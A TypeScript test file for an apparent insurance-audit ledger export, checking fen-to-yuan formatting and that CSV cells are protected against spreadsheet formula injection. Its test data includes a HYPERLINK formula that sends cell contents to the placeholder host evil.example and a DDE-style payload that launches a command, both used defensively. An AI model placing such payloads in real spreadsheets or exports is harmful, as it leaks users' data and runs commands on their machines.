import { parse } from 'csv-parse/sync';
import { LedgerView } from '@lianban/contracts';
import { annex3Csv, csvText, yuan } from './forms';

describe('amounts on the forms: whole fen shown as yuan with two decimals', () => {
  it.each([
    [0, '0.00'],
    [5, '0.05'],
    [10, '0.10'],
    [100, '1.00'],
    [1_234_567, '12345.67'],
    // The largest amount a row may hold is far below this; integer arithmetic stays exact up to 2^53.
    [900_719_925_474_099, '9007199254740.99'],
  ])('%i fen is %s 元', (fen, shown) => {
    expect(yuan(fen)).toBe(shown);
  });
});

describe('CSV cells a spreadsheet would run as formulas are kept as text', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', `'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['涉及系统改造，预计9月底完成', '涉及系统改造，预计9月底完成'],
    ['a=1', 'a=1'],
  ])('%j is written as %j', (text, written) => {
    expect(csvText(text)).toBe(written);
  });

  it('neutralises the text columns of Annex 3 and leaves amounts and numbers as they are', () => {
    const ledger = {
      institution: { id: 'i', code: 'H62070200001', name: '张掖市人民医院', kind: 'hospital', ownership: 'public', level: '3', regionCode: '620702' },
      insuranceTypes: ['employees'],
      problems: [{ seq: 1, category: '=1+1', content: '@A1', violatingEmployeesFen: 100, violatingResidentsFen: 0, refundedEmployeesFen: 0, refundedResidentsFen: 0, rectified: false, reason: '+1+1' }],
    } as unknown as LedgerView;
    const rows = parse(annex3Csv(ledger, '张掖市').toString('utf8'), { bom: true, relaxColumnCount: true }) as string[][];
    expect(rows[5]).toEqual(['1', "'=1+1", "'@A1", '1.00', '0.00', '0.00', '0.00', '②未完成整改', "'+1+1"]);
  });
});
